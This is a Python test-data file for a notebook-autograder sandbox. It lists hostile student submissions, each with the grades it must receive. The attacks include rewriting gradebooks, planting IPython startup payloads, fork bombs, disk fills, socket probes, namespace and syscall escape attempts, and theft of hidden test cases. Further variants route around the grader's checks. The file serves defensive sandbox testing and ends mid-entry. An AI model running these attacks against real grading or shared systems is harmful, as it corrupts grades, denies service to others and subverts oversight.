"""Hostile submissions: escape attempts and run-breakers (the sandbox's half of issue 8).

Same `Variant` format as catalogue.py, which imports this list (HOSTILE) and
appends it. Each one is the source solution of bn_forward plus an attack,
written to do real harm if it got out: it searches the whole visible file
system for the course (gradebook.db, nbgrader_config.py, source notebooks,
other students' submissions) and for bnkit's reference, and acts on what it
finds. To keep a failure of the sandbox harmless on a shared machine, files
outside a temporary directory are only ever given a marker comment
(`# bngrade-hostile`), never broken.

Each entry says the grades it must get: `lose` (tests below full marks, all
others full) and, where exact, `expect`. The control students in the same
nbgrader run (catalogue.CONTROLS) must keep their grades; tests/test_sandbox.py
also checks that the course files the attacks aim at are unchanged.
"""
# ruff: noqa: E501 (a data file: attack code quoted whole)
from catalogue import Variant

FWD = "batchnorm_forward"
ALL_FORWARD = frozenset({"test_train_output", "test_running_stats", "test_eval"})
ZERO_FORWARD = {"test_train_output": 0, "test_running_stats": 0, "test_eval": 0}
MARK = "# bngrade-hostile: this file was reached from a student's kernel\n"

# Finds files by name anywhere the kernel can see (and where the course used to be: ../../.. of the cwd).
HUNT = '''
import os, sys, glob, time, signal, socket

def _hunt(names, extra=()):
    found, roots = [], ["/", os.path.abspath("../../.."), os.path.expanduser("~"), "/tmp", "/work", "/root", "/home"]
    for root in roots + list(extra):
        for dirpath, dirnames, filenames in os.walk(root):
            if dirpath.startswith(("/proc", "/sys", "/dev", "/usr", sys.base_prefix)) or dirpath.count("/") > 9:
                dirnames[:] = []
                continue
            found += [os.path.join(dirpath, n) for n in filenames if n in names]
            if len(found) > 200:
                return sorted(set(found))
    return sorted(set(found))

def _mark(path):
    try:
        if path.startswith("/tmp/"):
            with open(path, "w") as f:
                f.write("{}")
        else:
            with open(path, "a") as f:
                f.write(%r)
        print("HOSTILE: changed", path)
    except OSError as e:
        print("hostile: could not change", path, "-", e.strerror)
''' % MARK


def _before(code):
    """The attack as module-level code above the student's (correct) forward."""
    return {FWD: [("def batchnorm_forward(", HUNT.strip("\n") + "\n\n" + code.strip("\n") + "\n\n\ndef batchnorm_forward(")]}


def _forward(body):
    """The whole forward cell replaced: `body` decides what the forward returns."""
    return {FWD: HUNT.strip("\n") + "\n\nimport numpy as np\n\n" + body.strip("\n") + "\n"}


def V(name, why, lose=frozenset(), **kw):
    return Variant(name, "bn_forward", "hostile", why, frozenset(lose), **kw)


HOSTILE = [
    # ---- rewrite what only the grader may write
    V("hostile_gradebook_rewrite", "finds gradebook.db and zeroes every grade in it: nothing to find",
      edits=_before('''
import sqlite3
for _db in _hunt({"gradebook.db"}):
    try:
        with sqlite3.connect(_db, timeout=1) as _c:
            _c.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        print("HOSTILE: rewrote", _db)
    except Exception as e:
        print("hostile: gradebook not writable:", _db, e)
print("hostile: gradebooks seen:", _hunt({"gradebook.db"}))
''')),
    V("hostile_other_submissions", "overwrites every other notebook it finds (submitted/, autograded/, release/)",
      edits=_before('''
_own = os.path.abspath(".")
for _nb in [p for p in _hunt({"bn_forward.ipynb"}) if not p.startswith(_own)]:
    _mark(_nb)
''')),
    V("hostile_config_rewrite", "appends to nbgrader_config.py (in the old world: dropped the tamper flag)",
      edits=_before('''
for _cfg in _hunt({"nbgrader_config.py"}):
    _mark(_cfg)
print("hostile: configs seen:", _hunt({"nbgrader_config.py"}))
''')),
    V("hostile_reference_rewrite", "writes into bnkit's reference (fast.py, staged.py) and the sandbox's gradcheck",
      edits=_before('''
import bnkit.gradcheck
for _ref in _hunt({"fast.py", "staged.py", "norms.py", "verdict.py"}) + [bnkit.gradcheck.__file__]:
    _mark(_ref)
''')),
    V("hostile_ipython_startup", "plants an IPython startup file that breaks np.sqrt in every later grading kernel",
      edits=_before('''
_payload = "import os, numpy\\nif os.environ.get('BNGRADE_RESULTS'):\\n    numpy.sqrt = lambda a: a\\n"
for _home in {os.path.expanduser("~"), "/root", "/home/student", "/etc/ipython", sys.prefix + "/etc/ipython"}:
    _d = os.path.join(_home, ".ipython/profile_default/startup") if "etc" not in _home else _home
    try:
        os.makedirs(_d, exist_ok=True)
        with open(os.path.join(_d, "00-hostile.py"), "w") as _f:
            _f.write(_payload)
        print("planted in", _d)
    except OSError as e:
        print("hostile: no startup file in", _d, "-", e.strerror)
''')),
    # ---- read what only the grader may read
    V("hostile_print_sources", "prints every source notebook (hidden tests) and the gradebook into its feedback",
      edits=_before('''
for _p in _hunt({"bn_forward.ipynb", "bn_backward_fast.ipynb", "gradebook.db", "harness.py", "verdict.py"}):
    try:
        print("HOSTILE:", _p, open(_p, "rb").read(3000))
    except OSError as e:
        print("hostile: cannot read", _p, e.strerror)
''')),
    V("hostile_read_reference", "its own forward is wrong (returns x); it uses bnkit.fast, torch or fast.py "
      "off disk when it can find one: it cannot, so it scores zero", ALL_FORWARD, expect=ZERO_FORWARD,
      cells=_forward('''
def _reference():
    try:
        from bnkit.fast import batchnorm_forward as ref
        return ref
    except ImportError:
        pass
    try:
        import torch  # noqa: F401
        print("HOSTILE: torch imported")
    except ImportError:
        pass
    for path in _hunt({"fast.py"}):
        if "bnkit" in path:
            ns = {}
            exec(open(path).read(), ns)
            return ns.get("batchnorm_forward")
    return None


def batchnorm_forward(x, gamma, beta, bn_param):
    ref = _reference()
    if ref is not None:
        print("HOSTILE: found the reference")
        return ref(x, gamma, beta, bn_param)
    return x, None
''')),
    # ---- break the run for everyone
    V("hostile_kill_parent", "after the tests: kills its parent, pid 1 and every process it may signal "
      "(its own kernel dies; the results written before stand; the run goes on)",
      append='''
import os, signal
for _pid in (os.getppid(), 1):
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError as e:
        print("cannot kill", _pid, e.strerror)
os.kill(-1, signal.SIGKILL)
'''),
    V("hostile_sqlite_lock_daemon", "a daemon (double fork, new session) that holds an exclusive lock on any "
      "gradebook it finds, for an hour; it is killed with the sandbox",
      edits=_before('''
import sqlite3
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _locks = []
        for _db in _hunt({"gradebook.db"}):
            try:
                _c = sqlite3.connect(_db, timeout=1, isolation_level=None)
                _c.execute("BEGIN EXCLUSIVE")
                _locks.append(_c)
            except Exception:
                pass
        time.sleep(3600)
    os._exit(0)
time.sleep(0.2)
''')),
    V("hostile_fork_bomb", "after the tests: a fork bomb for 3 s whose processes then stay (killed at the end)",
      append='''
import os, time
_me, _t = os.getpid(), time.time()
while time.time() - _t < 3:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
if os.getpid() != _me:  # every child stays, sleeping, until the sandbox goes
    while True:
        time.sleep(1)
print("fork bomb done")
'''),
    V("hostile_alloc_10gb", "its training forward first allocates 10 GB: MemoryError there (the sandbox's "
      "address-space limit), so those tests score zero; eval is unaffected",
      {"test_train_output", "test_running_stats"}, expect={"test_train_output": 0, "test_running_stats": 0},
      edits={FWD: [("        mu = x.mean(axis=0)\n", "        _hog = np.ones(10 * 2 ** 30 // 8)\n        mu = x.mean(axis=0)\n")]}),
    V("hostile_flood_output", "after the tests: prints without end (the cell is cut at the output cap and "
      "interrupted; the grader's memory stays flat)",
      append="import sys\nwhile True:\n    sys.stdout.write('flood ' * 2000 + '\\n')\n"),
    V("hostile_disk_fill", "after the tests: fills the work directory, HOME and /tmp (a capped tmpfs)",
      append='''
import os
for _d in (".", os.path.expanduser("~"), "/tmp"):
    try:
        for _i in range(40):
            with open(os.path.join(_d, f"fill{_i}"), "wb") as _f:
                _f.write(b"0" * (32 << 20))
    except OSError as e:
        print("fill stopped in", _d, "after", _i, "files:", e.strerror)
'''),
    V("hostile_network", "opens sockets: TCP, UDP, DNS, the docker socket",
      edits=_before('''
for _what, _try in [("tcp", lambda: socket.create_connection(("1.1.1.1", 80), timeout=3)),
                    ("dns", lambda: socket.getaddrinfo("pypi.org", 443)),
                    ("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53))),
                    ("docker", lambda: socket.socket(socket.AF_UNIX).connect("/run/docker.sock"))]:
    try:
        _try()
        print("HOSTILE: network reachable:", _what)
    except OSError as e:
        print("hostile: no", _what, "-", e)
''')),
    # ---- attacks on the sandbox itself and on the grader's reading of the results
    V("hostile_symlink_results", "after the tests: replaces its result files by symlinks to /etc/passwd and "
      "the gradebook; the grader never follows them, so its own results are gone: zero", ALL_FORWARD,
      expect=ZERO_FORWARD, append='''
import os
_r = os.environ.get("BNGRADE_RESULTS", "")
for _n in os.listdir(_r) if _r else []:
    os.remove(os.path.join(_r, _n))
    os.symlink("/etc/passwd", os.path.join(_r, _n))
'''),
    V("hostile_results_dir_swapped", "after the tests: moves the results directory away and puts a symlink to / "
      "in its place; the grader refuses the link and keeps what it read after each test cell: full marks",
      append='''
import os
_r = os.environ.get("BNGRADE_RESULTS", "")
if _r:
    os.rename(_r, _r + ".moved")
    os.symlink("/", _r)
'''),
    V("hostile_huge_result", "after the tests: rewrites its test_train_output result as 20 MiB: over the cap, "
      "that test scores zero, the others stand", {"test_train_output"}, expect={"test_train_output": 0},
      append='''
import os
_r = os.environ.get("BNGRADE_RESULTS", "")
for _n in os.listdir(_r) if _r else []:
    if _n.startswith("test_train_output"):
        with open(os.path.join(_r, _n), "wb") as _f:
            _f.write(b" " * (20 << 20))
'''),
    V("hostile_kernel_exit", "the forward cell ends its kernel (os._exit) after defining the function: no "
      "test runs, zero everywhere, the run goes on", ALL_FORWARD, expect=ZERO_FORWARD,
      edits={FWD: [("    return out, cache", "    return out, cache\n\n\nimport os\nos._exit(3)")]}),
    V("hostile_escape_probe", "after the tests: setuid(0), chroot, a new user namespace and mount, ptrace of "
      "pid 1, /proc/1/root, the mount table: nothing of the host",
      append='''
import os, ctypes
libc = ctypes.CDLL(None, use_errno=True)
for _what, _try in [("setuid0", lambda: os.setuid(0)), ("chroot", lambda: os.chroot("/tmp")),
                    ("proc1root", lambda: os.listdir("/proc/1/root/")),
                    ("unshare-user", lambda: libc.unshare(0x10000000) == 0 or (_ for _ in ()).throw(OSError(ctypes.get_errno(), "unshare"))),
                    ("ptrace1", lambda: libc.ptrace(16, 1, 0, 0) == 0 or (_ for _ in ()).throw(OSError(ctypes.get_errno(), "ptrace")))]:
    try:
        print(_what, "->", _try())
    except OSError as e:
        print("hostile:", _what, "refused:", e)
print([line.split()[4] for line in open("/proc/self/mountinfo")][:40])
'''),
    V("hostile_ipc_dir_write", "after the tests: writes big files next to its connection file (a host "
      "directory) and rewrites the connection file: refused, nothing reaches the host disk",
      append='''
import os
from ipykernel import get_connection_file
_cf = get_connection_file()
for _i in range(3):
    try:
        with open(os.path.join(os.path.dirname(_cf), f"fill{_i}"), "wb") as _f:
            _f.write(b"0" * (60 << 20))
        print("HOSTILE: wrote beside the connection file", _i)
    except OSError as e:
        print("hostile: ipc dir refused:", e.strerror)
try:
    open(_cf, "w").write("{}")
    print("HOSTILE: rewrote the connection file")
except OSError as e:
    print("hostile: connection file refused:", e.strerror)
'''),
]

# --- sandbox (issue 14) ---
# Each runs after the tests (a cell the student added), so the expected grades are full marks: what is
# checked is that the attack fails, the controls in the same run keep their grades, and the run goes on.
# Files planted beside the notebook (start-up shadowing, hard links) are not notebook edits: they are
# attacked in tests/test_sandbox_attacks.py.
SYSCALL_PROBE = '''
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def _refused(name, nr, *args):
    r = libc.syscall(nr, *[ctypes.c_long(a) for a in args])
    print("HOSTILE:" if r >= 0 else "hostile:", name, "->", "allowed" if r >= 0 else errno.errorcode[ctypes.get_errno()])
'''
HOSTILE += [
    V("hostile_userns_mount_tmpfs", "after the tests: a child makes its own user and mount namespace and mounts a "
      "tmpfs as big as the host's RAM, then fills it (refused by the seccomp filter)",
      append=SYSCALL_PROBE + '''
if os.fork() == 0:
    if libc.unshare(0x10000000 | 0x00020000) != 0:
        print("hostile: unshare refused:", errno.errorcode[ctypes.get_errno()])
        os._exit(0)
    os.makedirs("/tmp/big", exist_ok=True)
    if libc.mount(b"none", b"/tmp/big", b"tmpfs", 0, b"size=100%") == 0:
        print("HOSTILE: mounted a host-sized tmpfs")
        with open("/tmp/big/fill", "wb") as f:
            for _ in range(200):
                f.write(b"1" * (16 << 20))
    os._exit(0)
os.wait()
'''),
    V("hostile_sysv_shm_detached", "after the tests: a 2.4 GB SysV shared-memory segment created, touched and "
      "detached, so no process holds it (refused by the seccomp filter)",
      append=SYSCALL_PROBE + '''
libc.shmget.restype = ctypes.c_int
libc.shmat.restype = ctypes.c_void_p
shmid = libc.shmget(0, ctypes.c_size_t(2400 << 20), 0o1600)
if shmid < 0:
    print("hostile: shmget refused:", errno.errorcode[ctypes.get_errno()])
else:
    addr = libc.shmat(shmid, None, 0)
    ctypes.memset(addr, 1, 2400 << 20)
    libc.shmdt(ctypes.c_void_p(addr))
    print("HOSTILE: 2.4 GB held by no process")
'''),
    V("hostile_kernel_syscalls", "after the tests: ptrace, bpf, io_uring, keyctl, perf_event_open, userfaultfd, "
      "mount, setns, kexec, module loading: each refused",
      append=SYSCALL_PROBE + '''
for _name, _call in [("ptrace", (101, 16, 1, 0, 0)), ("bpf", (321, 0, 0, 0)), ("io_uring_setup", (425, 1, 0)),
                     ("keyctl", (250, 0, 0, 0, 0, 0)), ("perf_event_open", (298, 0, 0, -1, -1, 0)),
                     ("userfaultfd", (323, 0)), ("mount", (165, 0, 0, 0, 0, 0)), ("setns", (308, 0, 0)),
                     ("kexec_load", (246, 0, 0, 0, 0)), ("init_module", (175, 0, 0, 0))]:
    _refused(_name, *_call)
'''),
    V("hostile_many_hogs_and_memfd", "after the tests: 6 processes each touch 700 MiB (each under the "
      "address-space limit) while memfds fill up: the sandbox's cgroup bounds the total; the OOM killer takes "
      "the hogs, not the kernel",
      append='''
import os, time
kids = []
for _i in range(6):
    pid = os.fork()
    if pid == 0:
        try:
            _block = bytearray(b"1") * (700 << 20)
            _fds = [os.memfd_create("fill") for _ in range(8)]
            for _fd in _fds:
                os.write(_fd, b"1" * (60 << 20))
            time.sleep(5)
        finally:
            os._exit(0)
    kids.append(pid)
print("hostile: hogs ended:", [os.waitpid(p, 0)[1] for p in kids])
'''),
    V("hostile_sleep_after_tests", "after the tests: sleeps for an hour, past the cell limit: interrupted, not "
      "retried (the student's own time), nothing lost",
      append="import time\ntime.sleep(3600)\n"),
]
# --- skill (issue 14) ---
# Marks without the skill, routes the call graph used to miss, the analysis budget, damaged notebooks.
# The backwards' cases at scale (bngrade/cases.py, LARGE_ROWS x LARGE_COLUMNS) gate their tests: a
# numerical derivative of the forward cannot finish them within the cell timeout, which the grader
# measures outside the kernel. What the code looks like is evidence for a person (the ranked "code
# review" lines of the report and of the formgrader's notebook), never a score.
BWD, ALT = "batchnorm_backward", "batchnorm_backward_alt"
KEEP_INPUTS = ('cache = {"xc": xc, "std": std, "inv_std": inv_std, "xhat": xhat, "gamma": gamma, "N": N}',
               'cache = {"xc": xc, "std": std, "inv_std": inv_std, "xhat": xhat, "gamma": gamma, "N": N, '
               '"x": x, "beta": beta, "eps": eps}')
BOTH_GRAPH = frozenset({"test_backward_dx", "test_backward_dparams"})
BOTH_FAST = frozenset({"test_alt_dx", "test_alt_dparams"})
CLOSED = '''
def batchnorm_backward_alt(dout, cache):
    xhat, gamma, inv_std, N = cache["xhat"], cache["gamma"], cache["inv_std"], cache["N"]
    dbeta = dout.sum(axis=0)
    dgamma = (dout * xhat).sum(axis=0)
    return (gamma * inv_std / N) * (N * dout - dbeta - xhat * dgamma), dgamma, dbeta
'''


def S(name, assignment, kind, why, lose=frozenset(), **kw):
    return Variant(name, assignment, kind, why, frozenset(lose) if lose is not None else None, **kw)


SKILL = [
    # ---- a backward that differentiates the forward: exact on small cases, cannot finish the case at scale
    S("skill_complex_step_backward", "bn_backward_graph", "integrity",
      "dx, dgamma, dbeta by the complex step through the student's own forward, one row of every feature "
      "per pass (features are independent): exact on the small cases, N passes at scale: times out, so "
      "both backward tests score zero; the code review names the forward call and the complex numbers",
      BOTH_GRAPH, expect={"test_backward_dx": 0, "test_backward_dparams": 0},
      report=("code review:", "reaches the forward", "complex"),
      feedback={"test_backward_dx": ["at scale"]},
      edits={"batchnorm_forward": [KEEP_INPUTS]}, cells={BWD: '''
def batchnorm_backward(dout, cache):
    x, gamma, beta, eps = cache["x"], cache["gamma"], cache["beta"], cache["eps"]
    h = 1e-30

    def out(x, gamma):
        return batchnorm_forward(x, gamma, beta, {"mode": "train", "eps": eps})[0]
    dx = np.zeros(x.shape)
    for i in range(x.shape[0]):  # row i of every feature at once: the features do not interact
        xp = x.astype(complex)
        xp[i] += 1j * h
        dx[i] = (out(xp, gamma).imag / h * dout).sum(axis=0)
    dgamma = np.zeros(gamma.shape)
    for j in range(gamma.size):
        gp = gamma.astype(complex)
        gp[j] += 1j * h
        dgamma[j] = (out(x, gp).imag / h * dout).sum()
    return dx, dgamma, dout.sum(axis=0)
'''}),
    S("skill_gradcheck_extrapolated", "bn_backward_fast", "integrity",
      "the closed form as bnkit.gradcheck's centred differences, Richardson-extrapolated (h and h/2): passes "
      "the small cases, one element per pass at scale: times out, both closed-form tests score zero",
      BOTH_FAST, expect={"test_alt_dx": 0, "test_alt_dparams": 0}, report=("code review:", "numerical"),
      edits={"batchnorm_forward": [KEEP_INPUTS]}, cells={ALT: '''
from bnkit.gradcheck import numerical_gradient


def batchnorm_backward_alt(dout, cache):
    x, gamma, beta, eps = cache["x"].astype(np.float64), cache["gamma"], cache["beta"], cache["eps"]

    def grad(f, v, h):  # extrapolated: the h**2 error term cancels
        return (4 * numerical_gradient(f, v, dout, h / 2) - numerical_gradient(f, v, dout, h)) / 3
    scale = np.abs(x).max(axis=0) * 1e-6 + 1e-7
    dx = grad(lambda v: batchnorm_forward(v, gamma, beta, {"mode": "train", "eps": eps})[0], x, scale.min())
    dgamma = (dout * cache["xhat"]).sum(axis=0)
    return dx.astype(dout.dtype), dgamma, dout.sum(axis=0)
'''}),
    S("skill_vectorised_differences", "bn_spatial_layernorm", "integrity",
      "layer norm's backward as centred differences vectorised through its own forward: every sample's "
      "feature j perturbed in one pass (samples are independent), many such columns stacked side by side "
      "into one wide call; D passes' work at scale (x is (2, 200000)): times out, the test scores zero",
      {"test_layernorm_backward"}, expect={"test_layernorm_backward": 0}, report=("code review:",),
      edits={"layernorm": [("cache = (xhat, gamma, inv_std)", "cache = (xhat, gamma, inv_std, x, beta, eps)")]},
      cells={"layernorm": None}),
    S("skill_jvp_along_dout", "bn_backward_fast", "residual",
      "NOT caught by a score: one complex-step derivative of the forward ALONG dout. Batch norm's Jacobian "
      "is symmetric per feature, so J dout = J^T dout = dx: one forward pass, O(N*D), so the case at scale "
      "passes (full marks). The report shows it (the backward reaches the forward; complex numbers) for a "
      "person to read", frozenset(), report=("code review:", "reaches the forward", "symmetric"),
      edits={"batchnorm_forward": [KEEP_INPUTS]}, cells={ALT: '''
def batchnorm_backward_alt(dout, cache):
    x, gamma, beta, eps = cache["x"], cache["gamma"], cache["beta"], cache["eps"]
    h = 1e-30
    out = batchnorm_forward(x + 1j * h * dout, gamma, beta, {"mode": "train", "eps": eps})[0]
    dx = out.imag / h
    return dx, (dout * cache["xhat"]).sum(axis=0), dout.sum(axis=0)
'''}),
    # ---- the closed form reaching the staged backward by routes the old call graph missed: full marks
    #      (right numbers), the code review names the route for the person grading the derivation
    S("skill_route_forward_cache", "bn_backward_fast", "residual",
      "the forward puts the staged backward in its cache; the closed form calls cache['impl']",
      report=("code review:", "batchnorm_backward is put in a dict", "reads from a container"),
      edits={"batchnorm_forward": [(KEEP_INPUTS[0], KEEP_INPUTS[0][:-1] + ', "impl": batchnorm_backward}')]},
      cells={ALT: 'def batchnorm_backward_alt(dout, cache):\n    return cache["impl"](dout, cache)\n'}),
    S("skill_route_function_attribute", "bn_backward_fast", "residual",
      "the staged backward kept as an attribute of the forward; the closed form calls batchnorm_forward.impl",
      report=("code review:", "stored in an attribute", "calls an attribute of a function"),
      cells={ALT: 'batchnorm_forward.impl = batchnorm_backward\n\n\n'
                  'def batchnorm_backward_alt(dout, cache):\n    return batchnorm_forward.impl(dout, cache)\n'}),
    S("skill_route_list_append", "bn_backward_fast", "residual",
      "the staged backward appended to a list; the closed form calls _impls[0]",
      report=("code review:", "passed as a value to _impls.append", "reads from a container"),
      cells={ALT: '_impls = []\n_impls.append(batchnorm_backward)\n\n\n'
                  'def batchnorm_backward_alt(dout, cache):\n    return _impls[0](dout, cache)\n'}),
    S("skill_route_registering_decorator", "bn_backward_fast", "residual",
      "a decorator registers the staged backward in a dict; the closed form calls it from there",
      report=("code review:", "batchnorm_backward is decorated", "reads from a container"),
      edits={BWD: [("def batchnorm_backward(dout, cache):",
                    "_REGISTRY = {}\n\n\ndef register(f):\n    _REGISTRY[f.__name__] = f\n    return f\n\n\n"
                    "@register\ndef batchnorm_backward(dout, cache):")]},
      cells={ALT: 'def batchnorm_backward_alt(dout, cache):\n    return _REGISTRY["batchnorm_backward"](dout, cache)\n'}),
    S("skill_route_for_target", "bn_backward_fast", "residual",
      "the closed form's name bound as a for loop's target over [batchnorm_backward]",
      report=("code review: [strong]", "for loop's target"),
      cells={ALT: "for batchnorm_backward_alt in [batchnorm_backward]:\n    pass\n"}),
    S("skill_route_walrus", "bn_backward_fast", "residual",
      "the closed form's name bound by a walrus inside an expression",
      report=("code review: [strong]", "walrus"),
      cells={ALT: "print((batchnorm_backward_alt := batchnorm_backward).__name__)\n"}),
    S("skill_route_pre_run_cell_hook", "bn_backward_fast", "residual",
      "a wrong closed form, and an IPython pre_run_cell hook that rebinds it to the staged backward before "
      "every cell, the tests included: what the kernel runs is the staged backward (right numbers); the "
      "code review ranks the hook strong",
      report=("code review: [strong]", "pre_run_cell"),
      cells={ALT: '''
def batchnorm_backward_alt(dout, cache):
    return np.zeros_like(dout), np.zeros(dout.shape[1]), np.zeros(dout.shape[1])


def _swap(*args):
    globals()["batchnorm_backward_alt"] = batchnorm_backward


get_ipython().events.register("pre_run_cell", _swap)
'''}),
    # ---- honest structure the call graph used to zero: full marks
    S("skill_honest_class_methods", "bn_backward_fast", "honest",
      "both backwards as methods of one class (old grader: 0/5): full marks",
      expect={"test_alt_dx": 3, "test_alt_dparams": 2},
      cells={BWD: '''
class BatchNormBackward:
    """Both backwards, as methods."""

    def staged(self, dout, cache):
        xc, std, inv_std, xhat, gamma, N = (cache[k] for k in ("xc", "std", "inv_std", "xhat", "gamma", "N"))
        dxhat = gamma * dout
        dxc = inv_std * dxhat
        dvar = 0.5 * (-(xc * dxhat).sum(axis=0) / std ** 2) / std
        dxc = dxc + 2 * xc * np.ones_like(xc) * dvar / N
        dx = dxc - dxc.sum(axis=0) / N
        return dx, (xhat * dout).sum(axis=0), dout.sum(axis=0)

    def closed(self, dout, cache):
        xhat, gamma, inv_std, N = cache["xhat"], cache["gamma"], cache["inv_std"], cache["N"]
        dbeta, dgamma = dout.sum(axis=0), (dout * xhat).sum(axis=0)
        return (gamma * inv_std / N) * (N * dout - dbeta - xhat * dgamma), dgamma, dbeta


_bn = BatchNormBackward()
batchnorm_backward = _bn.staged
''', ALT: "batchnorm_backward_alt = _bn.closed\n"}),
    S("skill_honest_factory_closures", "bn_backward_fast", "honest",
      "both backwards made by one factory function (closures; old grader: 0/5): full marks",
      expect={"test_alt_dx": 3, "test_alt_dparams": 2},
      cells={BWD: '''
def _make_backwards():
    def staged(dout, cache):
        xc, std, inv_std, xhat, gamma, N = (cache[k] for k in ("xc", "std", "inv_std", "xhat", "gamma", "N"))
        dxhat = gamma * dout
        dxc = inv_std * dxhat + 2 * xc * (0.5 * (-(xc * dxhat).sum(axis=0) / std ** 2) / std) / N
        return dxc - dxc.sum(axis=0) / N, (xhat * dout).sum(axis=0), dout.sum(axis=0)

    def closed(dout, cache):
        xhat, gamma, inv_std, N = cache["xhat"], cache["gamma"], cache["inv_std"], cache["N"]
        dbeta, dgamma = dout.sum(axis=0), (dout * xhat).sum(axis=0)
        return (gamma * inv_std / N) * (N * dout - dbeta - xhat * dgamma), dgamma, dbeta
    return staged, closed


batchnorm_backward, _closed = _make_backwards()
''', ALT: "batchnorm_backward_alt = _closed\n"}),
    S("skill_honest_self_check_branch", "bn_backward_fast", "honest",
      "a correct closed form that calls the staged backward only in a self-check branch that never runs "
      "(old grader: zeroed): full marks",
      expect={"test_alt_dx": 3, "test_alt_dparams": 2},
      cells={ALT: CLOSED.replace("def batchnorm_backward_alt(dout, cache):",
                                 "def batchnorm_backward_alt(dout, cache, self_check=False):").replace(
          "    return (gamma", "    dx = (gamma").replace(", dgamma, dbeta\n", "\n") +
          "    if self_check:\n        assert np.allclose(dx, batchnorm_backward(dout, cache)[0])\n"
          "    return dx, dgamma, dbeta\n"}),
    # ---- the analysis is bounded: past its budget the report says so; scores are what the code earns
    S("skill_budget_function_chain", "bn_backward_fast", "integrity",
      "12,000 chained functions beside a correct closed form: the analysis (a child process with a size, "
      "time and memory budget) says 'analysis budget exceeded'; full marks",
      expect={"test_alt_dx": 3, "test_alt_dparams": 2}, report=("analysis budget exceeded",),
      cells={ALT: CLOSED + "\n\ndef _f0(d, c):\n    return batchnorm_backward(d, c)\n" +
             "".join(f"\n\ndef _f{i}(d, c):\n    return _f{i - 1}(d, c)\n" for i in range(1, 12000))}),
    S("skill_budget_dead_block", "bn_backward_fast", "integrity",
      "a 578 KB dead `if False:` block beside a correct closed form: 'analysis budget exceeded'; full marks",
      expect={"test_alt_dx": 3, "test_alt_dparams": 2}, report=("analysis budget exceeded",),
      cells={ALT: CLOSED + "\n\nif False:\n" +
             "".join(f"    _v{i} = np.sum(_v{i - 1} * 2 + 1) - _w{i} / _z\n" for i in range(1, 13500))}),
    # ---- damaged honest notebooks: restored, graded, reported
    S("skill_deleted_first_test_cell", "bn_forward", "honest",
      "the first test cell deleted by accident (old grader: KeyError in nbgrader's add_missing_cells, not "
      "graded, 0/0): restored from the source, full marks, reported",
      expect={"test_train_output": 3, "test_running_stats": 2, "test_eval": 2},
      report=("test cell 'test_train_output' was deleted",), mutation="delete:test_train_output"),
    S("skill_deleted_setup_cell", "bn_forward", "honest",
      "the locked setup cell (imports) deleted: restored from the source, full marks, reported",
      expect={"test_train_output": 3, "test_running_stats": 2, "test_eval": 2},
      report=("locked cell 'setup' was deleted",), mutation="delete:setup"),
    S("skill_answer_cell_retyped", "bn_forward", "honest",
      "the written-answer cell deleted and the answer retyped in a new markdown cell (old grader: 0/0): the "
      "answer cell comes back holding the retyped text, the tests score, reported",
      expect={"test_train_output": 3, "test_running_stats": 2, "test_eval": 2},
      report=("answer cell 'train_eval_answer' was deleted",), mutation="retype_answer:train_eval_answer"),
    S("skill_solution_cell_retyped_at_end", "bn_forward", "honest",
      "the forward's answer cell deleted and the function retyped in a new cell after the tests: the answer "
      "cell comes back holding it (where the tests can see it), full marks, reported",
      expect={"test_train_output": 3, "test_running_stats": 2, "test_eval": 2},
      report=("answer cell 'batchnorm_forward' was deleted",), mutation="retype_at_end:batchnorm_forward"),
]

LAYERNORM_DIFFERENCES = '''
def layernorm_forward(x, gamma, beta, ln_param):
    eps = ln_param.get("eps", 1e-5)
    mu = x.mean(axis=1, keepdims=True)
    xc = x - mu
    inv_std = 1.0 / np.sqrt((xc ** 2).mean(axis=1, keepdims=True) + eps)
    xhat = xc * inv_std
    return gamma * xhat + beta, (xhat, gamma, inv_std, x, beta, eps)


def layernorm_backward(dout, cache):
    xhat, gamma, inv_std, x, beta, eps = cache
    N, D = x.shape
    h = (1e-4 * x.std(axis=1) + 1e-12)[None, :, None]  # a step per sample, (1, N, 1)
    K = max(1, min(D, 4_000_000 // (N * D)))  # columns perturbed per call, stacked as extra samples
    dx = np.zeros_like(x)
    for start in range(0, D, K):
        cols = np.arange(start, min(D, start + K))
        plus = np.repeat(x[None], len(cols), axis=0)  # (k, N, D): copy k perturbs column cols[k]
        minus = plus.copy()
        plus[np.arange(len(cols)), :, cols] += h[0, :, 0]
        minus[np.arange(len(cols)), :, cols] -= h[0, :, 0]
        both = np.concatenate([plus, minus]).reshape(-1, D)
        out = layernorm_forward(both, gamma, beta, {"eps": eps})[0].reshape(2, len(cols), N, D)
        dx[:, cols] = (((out[0] - out[1]) / (2 * h)) * dout[None]).sum(axis=2).T
    return dx, (dout * xhat).sum(axis=0), dout.sum(axis=0)
'''
SKILL[2].cells = {"layernorm": LAYERNORM_DIFFERENCES}
SKILL[2].edits = {}
HOSTILE += SKILL
# --- channels (issue 14) ---
# Kernel messages, HTML and hidden cases (bngrade/output_caps.py, bngrade/safe_html.py, bngrade/verdict.py).
# tests/test_assignments.py also checks, for every student of the run, that the autograded notebook is at
# most 2 MiB above the released one and that no feedback page holds a student's script or event handler.
_SEND = '''
k = get_ipython().kernel
def send(msg_type, content, buffers=None):
    k.session.send(k.iopub_socket, msg_type, content, parent=k.get_parent(), buffers=buffers)
'''
HOSTILE += [
    V("hostile_hidden_cases_in_a_visible_message", "stashes every case list it is called from (hidden cases "
      "included) in builtins, across test cells, then raises on the VISIBLE eval case with the stash in its "
      "message and warns it: once the kernel holds hidden cases no student text reaches feedback, visible or "
      "hidden, so the line says only the exception's type (and the other tests pass)", {"test_eval"},
      expect={"test_train_output": 3, "test_running_stats": 2, "test_eval": 1.5},
      feedback={"test_eval": ["ValueError"]},
      edits={FWD: [('    mode = bn_param.get("mode", "train")\n', '''    import sys as _s, builtins as _b, warnings as _w
    _f = _s._getframe(1)
    while _f is not None and "cases" not in _f.f_locals:
        _f = _f.f_back
    if _f is not None:
        _stash = _b.__dict__.setdefault("_stash", [])
        _stash += [c for c in _f.f_locals["cases"] if c not in _stash]
        if _f.f_locals.get("seed") == 2 and _f.f_locals.get("check") == "eval_output":
            _w.warn("stashed " + repr(_stash))
